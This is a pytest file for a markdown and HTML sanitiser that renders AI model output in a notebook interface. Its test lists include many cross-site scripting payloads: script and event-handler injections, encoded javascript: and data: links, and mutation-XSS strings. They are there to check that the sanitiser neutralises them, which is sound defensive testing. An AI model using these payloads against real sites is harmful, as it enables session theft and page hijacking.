"""Tests for :mod:`aivvm_magic.rendering.markdown`: model output rendered to safe HTML.

The output is walked with the standard library's HTML parser, so the assertions are about the
elements and attributes a browser would build, not about substrings of the markup.
"""

from __future__ import annotations

import time

import pytest

from aivvm_magic.rendering.markdown import (
    escape_text,
    render_markdown,
    render_text,
    sanitize_html,
)
from tests.htmlcheck import assert_safe, parse

LINK_REL = {"noopener", "noreferrer", "nofollow"}


# --- untrusted markdown ---------------------------------------------------------------------

# (markdown payload, text that must be visible as text, or None when it may be removed)
XSS_MARKDOWN = [
    ("<script>alert(1)</script>", "<script>alert(1)</script>"),
    ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
    ("<svg onload=alert(1)>", "<svg onload=alert(1)>"),
    ("[x](javascript:alert(1))", None),
    ("[x](JaVaScRiPt:alert(1))", None),
    ("[x](  javascript:alert(1)  )", None),
    ("[x](java\tscript:alert(1))", None),
    ("[x](data:text/html,<script>alert(1)</script>)", None),
    ("[x](data:image/png;base64,iVBORw0KGgo=)", None),
    ("[x](vbscript:msgbox(1))", None),
    ("[x](&#106;avascript:alert(1))", None),
    ("[x](&#x6A;avascript&colon;alert(1))", None),
    ("[x](javascript&#58;alert(1))", None),
    ("[x](%6Aavascript:alert(1))", None),
    ('<iframe src="https://evil.example/"></iframe>', '<iframe src="https://evil.example/">'),
    ('<a href="javascript:alert(1)">click</a>', '<a href="javascript:alert(1)">click</a>'),
    ("<style>body { display: none }</style>", "<style>body { display: none }</style>"),
    ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ("![x](javascript:alert(1))", None),
    ("![x](http://evil.example/x.png)", None),
    ('![x](http://evil.example/x.png "t" onerror=alert(1))', None),
    ("[x]: javascript:alert(1)\n\n[link][x]", None),
    ("<object data=x></object><embed src=x>", "<object data=x></object><embed src=x>"),
    ("<form action=x><button>go</button></form>", "<form action=x>"),
    ("<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<math>"),
    ('```js" onmouseover="alert(1)\ncode\n```', "code"),
    ("<!-- comment --><b>bold</b>", "<!-- comment -->"),
    ("<div onclick=alert(1)>\nblock\n</div>", "<div onclick=alert(1)>"),
]


@pytest.mark.parametrize(("payload", "visible"), XSS_MARKDOWN)
def test_markdown_payload_is_neutralised(payload: str, visible: str | None) -> None:
    html = render_markdown(payload)
    parsed = assert_safe(html)
    if visible is not None:
        # Raw HTML in markdown is escaped: the reader sees what the model wrote.
        assert visible in parsed.text


def test_raw_script_is_shown_escaped() -> None:
    html = render_markdown("before <script>alert(1)</script> after")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert parse(html).text.strip() == "before <script>alert(1)</script> after"


def test_markdown_image_becomes_its_alt_text() -> None:
    html = render_markdown("see ![a *cat* photo](http://evil.example/?q=secret) here")
    parsed = assert_safe(html)
    assert "img" not in parsed.tags
    assert "evil.example" not in html
    assert parsed.text.strip() == "see a cat photo here"


def test_javascript_link_keeps_no_href() -> None:
    for payload in ("[x](javascript:alert(1))", "[x](&#106;avascript:alert(1))"):
        parsed = assert_safe(render_markdown(payload))
        assert all("href" not in a.attrs for a in parsed.find("a"))


def test_relative_links_lose_their_target() -> None:
    parsed = assert_safe(render_markdown("[api](/api/contents) [up](../x) [f](#frag)"))
    assert [a.attrs.get("href") for a in parsed.find("a")] == [None, None, None]
    assert parsed.text.strip() == "api up f"


def test_code_block_info_string_cannot_inject_attributes() -> None:
    parsed = assert_safe(render_markdown('```python" onclick="x\nprint(1)\n```'))
    (code,) = parsed.find("code")
    assert set(code.attrs) <= {"class"}
    assert code.attrs.get("class") in (None, "language-python")


# --- ordinary markdown ----------------------------------------------------------------------


def test_headings() -> None:
    parsed = assert_safe(render_markdown("# One\n\n## Two\n\n###### Six"))
    assert [e.tag for e in parsed.elements] == ["h1", "h2", "h6"]
    assert parsed.text.split() == ["One", "Two", "Six"]


def test_lists() -> None:
    parsed = assert_safe(render_markdown("- a\n- b\n\n3. three\n4. four"))
    assert [e.tag for e in parsed.elements] == ["ul", "li", "li", "ol", "li", "li"]
    assert parsed.find("ol")[0].attrs == {"start": "3"}


def test_table_with_alignment_uses_align_not_style() -> None:
    parsed = assert_safe(render_markdown("| a | b | c | d |\n|:--|--:|:-:|---|\n| 1 | 2 | 3 | 4 |"))
    assert {"table", "thead", "tbody", "tr", "th", "td"} <= parsed.tags
    assert [th.attrs.get("align") for th in parsed.find("th")] == ["left", "right", "center", None]
    assert [td.attrs.get("align") for td in parsed.find("td")] == ["left", "right", "center", None]


def test_inline_formatting() -> None:
    parsed = assert_safe(render_markdown("**b** *i* ~~gone~~ `x < y`"))
    assert {"strong", "em", "s", "code"} <= parsed.tags
    assert "`" not in parsed.text
    assert "x < y" in parsed.text


def test_fenced_code_keeps_language_class_and_is_highlighted_by_class_names() -> None:
    html = render_markdown("```python\nif a < b:\n    pass  # done\n```")
    parsed = assert_safe(html)
    assert [e.tag for e in parsed.elements[:3]] == ["div", "pre", "code"]
    assert parsed.elements[0].attrs == {"class": "highlight"}
    assert parsed.find("code")[0].attrs == {"class": "language-python"}
    # Pygments' token classes, which JupyterLab's theme colours; never a style.
    classes = {span.attrs["class"] for span in parsed.find("span")}
    assert {"k", "n", "o", "c1"} <= classes
    assert all(set(span.attrs) == {"class"} for span in parsed.find("span"))
    assert parsed.text.rstrip("\n") == "if a < b:\n    pass  # done"


def test_highlighting_survives_the_sanitiser_unchanged() -> None:
    from aivvm_magic.rendering.highlight import code_block_html

    block = code_block_html('x = "<script>alert(1)</script>"  # hi\n', "python")
    assert sanitize_html(block) == block
    assert "<script" not in block and "&lt;script&gt;" in block


def test_code_of_an_unknown_language_is_plain_escaped_text() -> None:
    parsed = assert_safe(render_markdown("```no-such-language\n<b>x</b>\n```"))
    assert parsed.find("span") == []
    assert parsed.text.strip() == "<b>x</b>"


def test_highlighting_matches_pygments_own_formatter() -> None:
    from pygments import highlight
    from pygments.formatters import HtmlFormatter
    from pygments.lexers import get_lexer_by_name

    from aivvm_magic.rendering.highlight import highlight_code

    code = 'def f(x: int) -> str:\n    """Doc."""\n    return f"{x!r} <&>"  # note\n\n'
    lexer = get_lexer_by_name("python", stripnl=False, ensurenl=False)
    assert highlight_code(code, "python") == highlight(code, lexer, HtmlFormatter(nowrap=True))


def test_a_code_block_over_the_limit_is_shown_plain() -> None:
    from aivvm_magic.rendering.highlight import HIGHLIGHT_LIMIT

    line = "x = 1  # one\n"
    long_block = f"```python\n{line * (HIGHLIGHT_LIMIT // len(line) + 1)}```"
    assert "<span" not in render_markdown(long_block)
    assert '<span class="k">' in render_markdown("```python\nif x: pass\n```")


def test_classes_other_than_the_highlighters_are_removed() -> None:
    dirty = (
        '<div class="highlight jp-Dialog"><span class="k evil" style="color:red">if</span>'
        '<span class="jp-mod-hidden">x</span></div><div class="aivvm-panel">y</div>'
    )
    assert sanitize_html(dirty) == (
        '<div class="highlight"><span class="k">if</span><span>x</span></div><div>y</div>'
    )


def test_fenced_code_without_language_has_no_class() -> None:
    parsed = assert_safe(render_markdown("```\nplain\n```"))
    assert parsed.find("code")[0].attrs == {}


def test_http_and_mailto_links_are_kept_and_open_in_a_new_tab() -> None:
    parsed = assert_safe(
        render_markdown(
            '[a](https://example.com/x?y=1&z=2 "Title") [b](http://example.org) '
            "[c](mailto:someone@example.com) <https://auto.example/>"
        )
    )
    links = parsed.find("a")
    hrefs = [a.attrs["href"] for a in links]
    assert hrefs == [
        "https://example.com/x?y=1&z=2",
        "http://example.org",
        "mailto:someone@example.com",
        "https://auto.example/",
    ]
    assert links[0].attrs["title"] == "Title"
    for link in links:
        assert link.attrs["target"] == "_blank"
        assert set((link.attrs["rel"] or "").split()) == LINK_REL


def test_blockquote_and_rule() -> None:
    parsed = assert_safe(render_markdown("> quoted\n\n---\n\nafter"))
    assert {"blockquote", "hr", "p"} <= parsed.tags


def test_carriage_returns_and_nul_are_normalised_as_commonmark_says() -> None:
    # CommonMark: CRLF and a lone CR end a line; U+0000 becomes U+FFFD.
    assert render_markdown("a\r\nb\rc\0d") == render_markdown("a\nb\nc\ufffdd")
    html = render_markdown("```\r\ncode\r\n```\r\n\r\n- one\r- two")
    assert html == render_markdown("```\ncode\n```\n\n- one\n- two")
    assert "<code>code\n</code>" in html and "<li>two</li>" in html and "\r" not in html


def test_unicode_is_intact() -> None:
    text = "Привет, мир! 你好 🙂 naïve café — ½ ∑ 🇺🇦"
    parsed = assert_safe(render_markdown(f"**{text}**"))
    assert parsed.text.strip() == text


def test_empty_input() -> None:
    assert render_markdown("") == ""


def test_one_megabyte_of_prose_and_code_renders_fast() -> None:
    # The common shape of a very long reply: prose paragraphs and large code listings. (The
    # listings name no language: highlighting has a test and a limit of its own.)
    prose = "The quick brown fox jumps over the lazy dog, and keeps running. " * 8 + "\n\n"
    code = "```\n" + "total = sum(x * 2 for x in range(10))  # a comment\n" * 200 + "```\n\n"
    unit = prose * 4 + code
    text = unit * (1_000_000 // len(unit) + 1)
    started = time.perf_counter()
    html = render_markdown(text)
    elapsed = time.perf_counter() - started
    assert elapsed < 1.0, f"{len(text)} characters took {elapsed:.2f}s"
    assert html.count("<pre>") == text.count("```\n") // 2


def _best_time(text: str, runs: int = 3) -> float:
    # The fastest of a few runs: on a shared machine, load only ever adds time.
    best = float("inf")
    for _ in range(runs):
        started = time.perf_counter()
        render_markdown(text)
        best = min(best, time.perf_counter() - started)
    return best


def test_dense_markdown_renders_in_linear_time() -> None:
    # Lists, links, emphasis and code spans on every line: markdown-it-py spends its time per
    # token, so this is slower than prose, but it must grow linearly, not blow up.
    unit = (
        "Use **`open`** with a *context manager*, see [docs](https://docs.python.org/).\n\n"
        "- the file is closed when the block ends;\n- pass `encoding` explicitly.\n\n"
    )
    small, large = unit * 250, unit * 1000
    small_time, large_time = _best_time(small), _best_time(large)
    assert large_time < 3.0
    # Four times the input may take at most twice four times as long (timer noise aside).
    assert large_time < 8 * small_time + 0.05


# --- HTML from elsewhere --------------------------------------------------------------------

SANITIZE_CASES = [
    ("<script>alert(1)</script>ok", "ok"),
    ("<img src=x onerror=alert(1)>ok", "ok"),
    ("<svg onload=alert(1)><circle/></svg>ok", "ok"),
    ('<iframe src="https://evil.example/">inside</iframe>ok', "ok"),
    ("<style>p { color: red }</style>ok", "ok"),
    ('<a href="javascript:alert(1)">ok</a>', "ok"),
    ('<a href="JaVaScRiPt:alert(1)">ok</a>', "ok"),
    ('<a href="&#106;avascript:alert(1)">ok</a>', "ok"),
    ('<a href="java&#09;script:alert(1)">ok</a>', "ok"),
    ('<a href="data:text/html,<script>alert(1)</script>">ok</a>', "ok"),
    ('<a href="vbscript:msgbox(1)">ok</a>', "ok"),
    ('<p onclick="alert(1)" style="position:fixed">ok</p>', "ok"),
    ('<form action="https://evil.example/"><input value="x">ok</form>', "ok"),
    ('<object data="x"></object><embed src="x">ok', "ok"),
    ('<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">', None),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">ok', None),
    ('<td align="left" style="x">ok</td>', None),
]


@pytest.mark.parametrize(("html", "visible"), SANITIZE_CASES)
def test_sanitize_html_removes_active_content(html: str, visible: str | None) -> None:
    parsed = assert_safe(sanitize_html(html))
    if visible is not None:
        assert parsed.text == visible


def test_sanitize_html_keeps_allowed_markup() -> None:
    html = (
        '<h2>T</h2><p><strong>b</strong> <em>i</em> <a href="https://x.example/" '
        'title="t">l</a></p><pre><code class="language-rust hljs">fn</code></pre>'
        '<table><tbody><tr><td align="right">1</td><td align="justify">2</td></tr></tbody></table>'
    )
    parsed = assert_safe(sanitize_html(html))
    assert {"h2", "p", "strong", "em", "a", "pre", "code", "table", "td"} <= parsed.tags
    (link,) = parsed.find("a")
    assert link.attrs["href"] == "https://x.example/"
    assert link.attrs["title"] == "t"
    assert link.attrs["target"] == "_blank"
    # Only language classes survive on code.
    assert parsed.find("code")[0].attrs == {"class": "language-rust"}
    assert [td.attrs.get("align") for td in parsed.find("td")] == ["right", None]


def test_sanitize_html_replaces_a_given_rel() -> None:
    parsed = parse(sanitize_html('<a href="https://x.example/" rel="opener" target="_self">x</a>'))
    (link,) = parsed.find("a")
    assert set((link.attrs["rel"] or "").split()) == LINK_REL
    assert link.attrs["target"] == "_blank"


# --- plain text -----------------------------------------------------------------------------


def test_escape_text() -> None:
    assert escape_text("<b>&\"'") == "&lt;b&gt;&amp;&quot;&#x27;"


def test_render_text_escapes_and_keeps_whitespace() -> None:
    text = 'line <1>\n  indented & "quoted"\n\n<script>alert(1)</script>'
    html = render_text(text)
    assert html.startswith('<pre class="aivvm-text">')
    assert html.endswith("</pre>")
    parsed = parse(html)
    assert [e.tag for e in parsed.elements] == ["pre"]
    assert parsed.elements[0].attrs == {"class": "aivvm-text"}
    assert parsed.text == text
    assert "<script" not in html


def test_render_text_does_not_interpret_markdown() -> None:
    parsed = parse(render_text("**not bold** [x](https://example.com)"))
    assert parsed.tags == {"pre"}
    assert parsed.text == "**not bold** [x](https://example.com)"
